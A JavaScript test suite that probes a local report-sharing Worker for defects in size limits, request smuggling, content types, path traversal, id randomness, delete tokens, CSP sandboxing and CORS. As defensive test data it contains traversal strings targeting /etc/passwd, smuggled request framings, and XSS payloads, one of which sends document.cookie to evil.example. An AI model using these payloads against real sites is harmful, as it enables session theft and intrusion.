// The share service under attack, as deployed: the Go Worker under `wrangler
// dev` (workerd, local R2) driven with raw HTTP, so that paths, headers and
// bodies reach it exactly as written here (fetch would normalise paths and
// refuse lying lengths). Every answer the Worker gives goes through call(),
// which checks the fixed set of security headers on it, errors included; the
// last test checks every status the service can answer was seen.
import { after, before, test } from "node:test";
import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { existsSync, readdirSync } from "node:fs";
import http from "node:http";
import net from "node:net";
import { join } from "node:path";
import { startWrangler } from "./share-dev.mjs";

// The limit wasm/share/wrangler.jsonc sets (MAX_REPORT_BYTES).
const LIMIT = 25 * 1024 * 1024;
// wrangler.jsonc's bucket_name: `wrangler dev` keeps one file per stored
// object under this directory of its state.
const BUCKET = "dropsight-reports";

// The headers on every answer of the service (wasm/share/service
// alwaysHeaders), and the two a found report replaces.
const ALWAYS = {
  "x-content-type-options": "nosniff",
  "x-frame-options": "DENY",
  "referrer-policy": "no-referrer",
  "cross-origin-resource-policy": "same-origin",
};
const REPORT_CSP = "sandbox; default-src 'none'; style-src 'unsafe-inline'; img-src data:; " +
  "base-uri 'none'; form-action 'none'; frame-ancestors 'none'";
const OTHER_CSP = "sandbox; default-src 'none'; style-src 'unsafe-inline'; base-uri 'none'; " +
  "form-action 'none'; frame-ancestors 'none'";

let dev;
const statusesSeen = new Set();

before(async () => {
  dev = await startWrangler();
}, { timeout: 120_000 });
after(async () => { await dev?.close(); });

/** The number of objects in the local R2 bucket. */
function stored() {
  const blobs = join(dev.state, "v3/r2", BUCKET, "blobs");
  return existsSync(blobs) ? readdirSync(blobs).length : 0;
}

/** Checks the security headers every answer of the service carries. */
function assertSecurityHeaders(res, what) {
  const h = res.headers;
  for (const [k, v] of Object.entries(ALWAYS)) assert.equal(h[k], v, `${what}: ${k}`);
  const found = res.status === 200 && res.path.startsWith("/r/");
  assert.equal(h["content-security-policy"], found ? REPORT_CSP : OTHER_CSP, `${what}: CSP`);
  assert.equal(h["cache-control"], found ? "public, max-age=31536000, immutable" : "no-store", `${what}: cache-control`);
  assert.equal(h["set-cookie"], undefined, `${what}: sets a cookie`);
  for (const k of Object.keys(h)) assert.ok(!k.startsWith("access-control-"), `${what}: CORS header ${k}`);
  if (res.status !== 204) {
    assert.ok(["text/html; charset=utf-8", "application/json; charset=utf-8"].includes(h["content-type"]),
      `${what}: content-type ${h["content-type"]}`);
  }
}

/** One HTTP request with the path sent byte for byte as given; resolves to
 *  { status, headers (lower-case names), body (Buffer), path }. */
function raw(method, path, { headers = {}, body } = {}) {
  return new Promise((ok, fail) => {
    const { hostname, port } = new URL(dev.url);
    const req = http.request({ host: hostname, port, method, path, headers, agent: false }, (res) => {
      const chunks = [];
      res.on("data", (c) => chunks.push(c));
      res.on("end", () => ok({ status: res.statusCode, headers: res.headers, body: Buffer.concat(chunks), path }));
      res.on("error", fail);
    });
    req.on("error", fail);
    if (body !== undefined) req.write(body);
    req.end();
  });
}

/** raw(), for requests the Worker answers: checks the security headers. */
async function call(method, path, opts) {
  const res = await raw(method, path, opts);
  assertSecurityHeaders(res, `${method} ${path.slice(0, 80)} (${res.status})`);
  statusesSeen.add(res.status);
  return res;
}

async function publish(body = "<p>report</p>", contentType = "text/html; charset=utf-8") {
  const res = await call("POST", "/api/reports", { headers: { "content-type": contentType }, body });
  assert.equal(res.status, 201, res.body.toString());
  return JSON.parse(res.body);
}

const NOT_FOUND = /Report not found/;

test("oversize bodies are refused and nothing is stored", { timeout: 120_000 }, async () => {
  const before = stored();
  // Declared length over the limit: refused from the header.
  const big = Buffer.alloc(LIMIT + 1, "a");
  let res = await call("POST", "/api/reports", { headers: { "content-type": "text/html" }, body: big });
  assert.equal(res.status, 413);
  assert.match(JSON.parse(res.body).error, /larger than the limit of 26214400 bytes/);

  // No length at all (chunked): cut as it is read, one byte past the limit.
  res = await call("POST", "/api/reports", {
    headers: { "content-type": "text/html", "transfer-encoding": "chunked" },
    body: big,
  });
  assert.equal(res.status, 413);
  assert.equal(stored(), before, "an oversize report was stored");

  // Exactly the limit is accepted, and comes back whole.
  const exact = Buffer.alloc(LIMIT, "b");
  const p = await publish(exact);
  const got = await call("GET", `/r/${p.id}`);
  assert.equal(got.status, 200);
  assert.ok(got.body.equals(exact), `read back ${got.body.length} bytes`);
  assert.equal((await call("DELETE", `/api/reports/${p.id}`, { headers: { authorization: `Bearer ${p.deleteToken}` } })).status, 204);
});

/** Writes a raw request on a socket and half-closes it; resolves to the
 *  answer (the first one, when sized), or "" when the server closes or
 *  waitMs passes without one. */
function socketRequest(text, waitMs = 10_000) {
  return new Promise((ok, fail) => {
    const { hostname, port } = new URL(dev.url);
    const s = net.connect(Number(port), hostname);
    let got = "";
    const timer = setTimeout(() => { s.destroy(); ok(got); }, waitMs);
    s.on("data", (d) => {
      got += d;
      // One whole answer is enough: stop at the end of a sized body.
      const m = /content-length: (\d+)\r\n/i.exec(got);
      const head = got.indexOf("\r\n\r\n");
      if (m && head >= 0 && got.length >= head + 4 + Number(m[1])) { clearTimeout(timer); s.destroy(); ok(got); }
    });
    s.on("end", () => { clearTimeout(timer); ok(got); });
    s.on("error", (e) => { clearTimeout(timer); e.code === "ECONNRESET" ? ok(got) : fail(e); });
    s.write(text);
    s.end();
  });
}

/** The new report's id in a raw 201 answer, from its Location header (the
 *  JSON body comes in chunked framing). */
function locationId(answer) {
  return /\r\nLocation: [^\r]*\/r\/([A-Za-z0-9_-]{22})\r\n/i.exec(answer)[1];
}

test("bodies that lie about their length", { timeout: 60_000 }, async () => {
  const before = stored();
  const host = new URL(dev.url).host;
  const head = (length) => `POST /api/reports HTTP/1.1\r\nHost: ${host}\r\nContent-Type: text/html\r\n` +
    `Content-Length: ${length}\r\nConnection: close\r\n\r\n`;
  // Claims more than it sends, then closes: an incomplete body is never
  // stored. (The service refuses a declared length over the limit from the
  // header alone, see the Go tests; `wrangler dev` itself waits for the
  // whole body first, and answers 503 when the client gives up.)
  for (const length of [30_000_000, 100]) {
    const answer = await socketRequest(head(length) + "<p>x</p>");
    assert.doesNotMatch(answer, /^HTTP\/1\.1 2/, `Content-Length ${length}: ${answer.slice(0, 200)}`);
  }
  assert.equal(stored(), before, "an incomplete body was stored");

  // Claims 8 bytes and sends more: exactly the 8 declared are the report;
  // the rest is never part of it.
  let answer = await socketRequest(head(8) + "<p>x</p><script>smuggled()</script>");
  assert.match(answer, /^HTTP\/1\.1 201 /, answer.slice(0, 300));
  const id = locationId(answer);
  assert.equal((await call("GET", `/r/${id}`)).body.toString(), "<p>x</p>");
  assert.equal(stored(), before + 1);

  // Both a length and chunked: the chunked framing wins (RFC 9112 6.3), so
  // the report is the 8 chunked bytes, not the first 4 of the framing, and
  // nothing is left over to be read as another request.
  answer = await socketRequest(`POST /api/reports HTTP/1.1\r\nHost: ${host}\r\nContent-Type: text/html\r\n` +
    `Content-Length: 4\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n8\r\n<p>y</p>\r\n0\r\n\r\n`);
  assert.match(answer, /^HTTP\/1\.1 201 /, answer.slice(0, 300));
  assert.equal(answer.match(/^HTTP\/1\.1 /gm).length, 1, "more than one answer");
  const both = locationId(answer);
  assert.equal((await call("GET", `/r/${both}`)).body.toString(), "<p>y</p>");
  assert.equal(stored(), before + 2);
});

test("wrong or missing content types are refused and nothing is stored", async () => {
  const before = stored();
  // The types an HTML form can send (no CORS preflight) are among them.
  for (const type of [undefined, "", "application/json", "text/plain", "application/x-www-form-urlencoded",
    "multipart/form-data; boundary=x", "image/svg+xml", "application/xhtml+xml", "text/htmlx", "text/html,",
    "html", "text/html; charset", "*/*"]) {
    const headers = type === undefined ? {} : { "content-type": type };
    const res = await call("POST", "/api/reports", { headers, body: "<script>alert(1)</script>" });
    assert.equal(res.status, 415, `content type ${JSON.stringify(type)}`);
    assert.match(JSON.parse(res.body).error, /Content-Type: text\/html/);
  }
  assert.equal(stored(), before);
  // Media types are case-insensitive.
  await publish("<p>upper</p>", "TEXT/HTML; Charset=UTF-8");
  // Empty is not a report.
  assert.equal((await call("POST", "/api/reports", { headers: { "content-type": "text/html" }, body: "" })).status, 400);
  assert.equal(stored(), before + 1);
});

test("path traversal and odd ids never reach storage", async () => {
  const p = await publish("<p>the one report</p>");
  const secrets = [/devDependencies/, /r2_buckets/, /root:x:0:0/, /the one report/];
  const odd = [
    "../../package.json", "..%2f..%2fpackage.json", "..%2F..%2Fwasm%2Fshare%2Fwrangler.jsonc",
    "%2e%2e/%2e%2e/package.json", "%2e%2e%2f%2e%2e%2fpackage.json", "..%5c..%5cpackage.json",
    "%252e%252e%252fpackage.json", "....//....//etc/passwd", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    `${p.id}/..`, `${p.id}%2f..`, `${p.id}/`, `${p.id}.html`, `${p.id};x`, `${p.id}%00`, `%00${p.id.slice(1)}`,
    `${p.id.slice(0, 21)}%00`, `${p.id.slice(0, 21)}%2e`, `${p.id.slice(0, 21)}%2f`, `${p.id.slice(0, 21)}%20`,
    `${p.id}x`, p.id.slice(0, 21), "A".repeat(4000),
    // Letters that look like id characters but are not ASCII.
    encodeURIComponent("Ａ".repeat(22)), encodeURIComponent("é".repeat(22)), encodeURIComponent("а".repeat(22)),
    encodeURIComponent(p.id.slice(0, 21) + "\u0301"), "%C0%AE%C0%AE%C0%AFpackage.json", "%ff".repeat(22),
  ];
  for (const id of odd) {
    const res = await call("GET", `/r/${id}`);
    assert.equal(res.status, 404, `GET /r/${id.slice(0, 60)}`);
    assert.match(res.body.toString(), NOT_FOUND);
    for (const s of secrets) assert.doesNotMatch(res.body.toString(), s, `GET /r/${id.slice(0, 60)}`);
    const del = await call("DELETE", `/api/reports/${id}`, { headers: { authorization: `Bearer ${p.deleteToken}` } });
    assert.equal(del.status, 404, `DELETE /api/reports/${id.slice(0, 60)}`);
  }
  assert.equal((await call("GET", `/r/${p.id}`)).body.toString(), "<p>the one report</p>", "survived the odd deletes");

  // An id of 100,000 characters is refused by the runtime before the Worker
  // runs (431, without the service's headers): nothing is echoed back.
  const huge = await raw("GET", `/r/${"A".repeat(100_000)}`);
  assert.ok(huge.status >= 400 && huge.status < 500, `status ${huge.status}`);
  assert.ok(huge.body.length < 1000 && !huge.body.includes("AAAAAAAAAA"), "the path is echoed");
});

test("ids are unguessable: 128 random bits, and guesses find nothing", { timeout: 60_000 }, async () => {
  const published = [];
  for (let i = 0; i < 40; i++) published.push(await publish(`<p>${i}</p>`));
  const ids = published.map((p) => p.id);
  assert.equal(new Set(ids).size, ids.length);
  const bits = new Array(128).fill(0);
  for (const id of ids) {
    assert.match(id, /^[A-Za-z0-9_-]{22}$/);
    const bytes = Buffer.from(id, "base64url");
    assert.equal(bytes.length, 16);
    for (let b = 0; b < 128; b++) bits[b] += (bytes[b >> 3] >> (7 - (b & 7))) & 1;
  }
  // A counter, a clock or a short random part would leave bit positions
  // (nearly) constant over 40 ids; uniform bits stay in 4..36 with
  // probability above 1 - 1e-5 over all 128 positions.
  for (const [b, ones] of bits.entries()) assert.ok(ones >= 4 && ones <= 36, `bit ${b} is 1 in ${ones} of 40 ids`);
  // No two ids share a 6-character prefix (36 bits).
  assert.equal(new Set(ids.map((id) => id.slice(0, 6))).size, ids.length);
  for (const p of published) {
    assert.match(p.deleteToken, /^[A-Za-z0-9_-]{43}$/);
    assert.ok(!p.deleteToken.includes(p.id));
  }
  assert.equal(new Set(published.map((p) => p.deleteToken)).size, published.length);

  // Random ids of the right shape, and every one-character change of a real
  // id, all miss.
  const guesses = Array.from({ length: 300 }, () => randomBytes(16).toString("base64url"));
  const id = ids[0];
  for (let i = 0; i < id.length; i++) guesses.push(id.slice(0, i) + (id[i] === "A" ? "B" : "A") + id.slice(i + 1));
  for (const g of guesses) assert.equal((await call("HEAD", `/r/${g}`)).status, 404, g);
});

test("delete needs the report's own token, in the Authorization header, once", async () => {
  const p = await publish("<p>mine</p>");
  const other = await publish("<p>theirs</p>");
  const path = `/api/reports/${p.id}`;
  const del = (headers, target = path) => call("DELETE", target, { headers });
  const alive = async () => (await call("GET", `/r/${p.id}`)).status === 200;

  // No token where the service reads it: 401 with the scheme to use.
  for (const [what, headers, target] of [
    ["no token", {}],
    ["token alone", { authorization: p.deleteToken }],
    ["Basic scheme", { authorization: `Basic ${p.deleteToken}` }],
    ["Token scheme", { authorization: `Token ${p.deleteToken}` }],
    ["empty Bearer", { authorization: "Bearer " }],
    ["custom header", { "x-delete-token": p.deleteToken }],
    ["cookie", { cookie: `deleteToken=${p.deleteToken}` }],
    ["query", {}, `${path}?token=${p.deleteToken}&deleteToken=${p.deleteToken}`],
  ]) {
    const res = await del(headers, target);
    assert.equal(res.status, 401, what);
    assert.match(res.headers["www-authenticate"], /^Bearer /, what);
  }
  // A token that is not this report's: 403.
  for (const [what, token] of [
    ["wrong token", "A".repeat(43)],
    ["another report's token", other.deleteToken],
    ["token with a suffix", p.deleteToken + "x"],
    ["token cut short", p.deleteToken.slice(0, 42)],
    ["token in another case", p.deleteToken.toUpperCase() === p.deleteToken ? p.deleteToken.toLowerCase() : p.deleteToken.toUpperCase()],
    ["the id as token", p.id],
    ["a very long token", "A".repeat(10_000)],
  ]) {
    assert.equal((await del({ authorization: `Bearer ${token}` })).status, 403, what);
  }
  assert.ok(await alive(), "deleted without its token");

  // The right token (the scheme is case-insensitive) deletes once; replayed,
  // it finds nothing, and it never deletes another report.
  assert.equal((await del({ authorization: `bearer ${p.deleteToken}` })).status, 204);
  assert.ok(!(await alive()));
  assert.equal((await del({ authorization: `Bearer ${p.deleteToken}` })).status, 404, "replayed");
  assert.equal((await del({ authorization: `Bearer ${p.deleteToken}` }, `/api/reports/${other.id}`)).status, 403);
  assert.equal((await call("GET", `/r/${other.id}`)).status, 200);
  // Publishing the same bytes again makes a new report the old token cannot touch.
  const again = await publish("<p>mine</p>");
  assert.notEqual(again.id, p.id);
  assert.equal((await del({ authorization: `Bearer ${p.deleteToken}` }, `/api/reports/${again.id}`)).status, 403);
});

test("HTML and script in a report are served inert, isolated from the share origin", async () => {
  const hostile = [
    "<!doctype html><html><head>",
    // A meta policy can only add restrictions to the header's, never lift them.
    `<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'">`,
    `<meta http-equiv="refresh" content="0; url=https://evil.example/">`,
    `<meta http-equiv="Set-Cookie" content="session=stolen">`,
    `<base href="https://evil.example/">`,
    `<link rel="stylesheet" href="https://evil.example/x.css">`,
    "<script>fetch('/api/reports', {method: 'POST', body: localStorage.getItem('dropsight.publishedReports')})</script>",
    "</head><body>",
    `<img src="x" onerror="document.location='https://evil.example/?'+document.cookie">`,
    `<svg onload="alert(1)"><script>alert(2)</script></svg>`,
    `<iframe src="/"></iframe><object data="/r/x"></object><embed src="/r/y">`,
    `<form action="/api/reports/x" method="post"><button formaction="javascript:alert(3)">go</button></form>`,
    `<a href="javascript:alert(4)">x</a><a href="/r/other" target="_top">other</a>`,
    "\u2028\u2029 caf\u00e9 \u{1F4CA} \u0000 </body></html>",
  ].join("\n");
  const p = await publish(Buffer.from(hostile, "utf8"));
  const res = await call("GET", `/r/${p.id}`);
  assert.equal(res.status, 200);
  // Stored and served byte for byte: nothing is rewritten, nothing added.
  assert.ok(res.body.equals(Buffer.from(hostile, "utf8")));
  assert.equal(res.headers["content-type"], "text/html; charset=utf-8");
  assert.equal(Number(res.headers["content-length"] ?? res.body.length), res.body.length);
  const csp = res.headers["content-security-policy"];
  const directives = new Map(csp.split(";").map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k, v]));
  // sandbox with no allow-* token: an opaque origin (no access to the share
  // origin's storage or cookies), no scripts, forms, popups, top navigation.
  assert.deepEqual(directives.get("sandbox"), []);
  assert.deepEqual(directives.get("default-src"), ["'none'"]);
  assert.ok(!directives.has("script-src") && !directives.has("connect-src") && !directives.has("frame-src"), csp);
  assert.deepEqual(directives.get("frame-ancestors"), ["'none'"]);
  assert.deepEqual(directives.get("base-uri"), ["'none'"]);
  assert.deepEqual(directives.get("form-action"), ["'none'"]);
  assert.doesNotMatch(csp, /unsafe-eval|allow-|\*|https?:/);

  // A page on another site cannot publish or delete through a visitor's
  // browser: the preflight grants nothing.
  for (const [path, method] of [["/api/reports", "POST"], [`/api/reports/${p.id}`, "DELETE"], [`/r/${p.id}`, "GET"]]) {
    const pre = await call("OPTIONS", path, {
      headers: { origin: "https://evil.example", "access-control-request-method": method, "access-control-request-headers": "content-type, authorization" },
    });
    assert.equal(pre.status, 405, `preflight ${method} ${path}`);
  }
  const cross = await call("GET", `/r/${p.id}`, { headers: { origin: "https://evil.example" } });
  assert.equal(cross.headers["access-control-allow-origin"], undefined);
});

test("the methods each path does not serve", async () => {
  const p = await publish("<p>m</p>");
  for (const [method, path, allow] of [
    ["GET", "/api/reports", "POST"], ["PUT", "/api/reports", "POST"], ["DELETE", "/api/reports", "POST"],
    ["GET", `/api/reports/${p.id}`, "DELETE"], ["PUT", `/api/reports/${p.id}`, "DELETE"],
    ["POST", `/r/${p.id}`, "GET, HEAD"], ["PATCH", `/r/${p.id}`, "GET, HEAD"], ["DELETE", `/r/${p.id}`, "GET, HEAD"],
  ]) {
    const res = await call(method, path, { headers: { "content-type": "text/html" }, body: "<p>x</p>" });
    assert.equal(res.status, 405, `${method} ${path}`);
    assert.equal(res.headers.allow, allow, `${method} ${path}`);
  }
  assert.equal((await call("GET", "/api/nothing")).status, 404);
  assert.equal((await call("GET", `/r/${p.id}`)).status, 200, "still there");
});

test("every status the service answers carried the security headers", () => {
  for (const status of [200, 201, 204, 400, 401, 403, 404, 405, 413, 415]) {
    assert.ok(statusesSeen.has(status), `no answer with status ${status} was checked`);
  }
});
